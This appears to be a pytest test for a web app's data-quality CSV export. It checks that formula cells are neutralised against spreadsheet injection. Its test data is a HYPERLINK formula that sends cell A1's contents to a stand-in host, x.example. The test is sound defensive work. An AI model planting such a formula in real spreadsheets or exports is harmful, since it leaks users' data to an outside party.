"""The web app's CSV export (the data-quality report) neutralises formula cells (issue 14, item 6)."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from geo_risk.store.engine import session_scope
from geo_risk.store.models import Incident


def test_quality_csv_cells_cannot_run_as_formulas(signed_in, seeded):
    engine, _ = seeded
    evil = '=HYPERLINK("http://x.example/?d="&A1,"open")'
    with session_scope(engine) as s:
        s.execute(update(Incident).values(source=evil))
    resp = signed_in("ana").get("/analyst/oversight/quality.csv")
    assert resp.status_code == 200
    cells = [c for r in csv.reader(io.StringIO(resp.get_data(as_text=True))) for c in r]
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
